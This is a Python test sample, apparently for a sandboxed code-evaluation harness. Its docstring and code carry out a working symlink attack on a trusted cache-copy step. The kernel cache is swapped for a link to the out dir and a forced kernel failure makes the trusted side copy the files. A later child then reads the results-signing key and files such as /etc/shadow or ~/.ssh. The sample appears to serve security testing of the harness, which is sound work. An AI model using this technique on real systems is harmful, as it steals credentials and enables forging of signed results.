"""Two variants of one sample. In the first child, the set-up replaces its kernel cache (the
scratch's ``kernel-cache``, which the trusted side copies out when the child ends, to restore for
the next child of the same pass code) with a symbolic link to the run's out dir, and the kernel
fails, so the child is ended: the trusted side copies every regular file under the link, as the
trusted user, into the kept cache. The second variant's fresh child starts with that cache
restored into its scratch, and fails with what it found: the out dir's ``.results-key`` (the key
that signs results.jsonl), and whatever else the link named (/etc/shadow, ~/.ssh, an API key file)."""

import os
from pathlib import Path

import torch
from pass_dir import r2

CACHE = Path(os.environ["TRITON_CACHE_DIR"]).parent


def _loot():
    found = {}
    if CACHE.is_dir() and not CACHE.is_symlink():
        for path in sorted(CACHE.rglob("*")):
            if path.is_file():
                found[str(path.relative_to(CACHE))] = path.read_bytes()[:64].hex()
    return found


_found = _loot()
if ".results-key" in _found:
    r2.fail_with("R2LOOT", _found)
if CACHE.is_symlink() or CACHE.exists():
    os.rename(CACHE, CACHE.with_name("kernel-cache-moved"))
os.symlink(r2.hint("out"), CACHE)


def pattern(a):
    return torch.relu(a)


def replacement_args(a):
    return (a,)


def fail(x):
    raise RuntimeError("kernel failed on purpose: the child ends, its kernel cache is kept")


def replacement_func():
    return fail
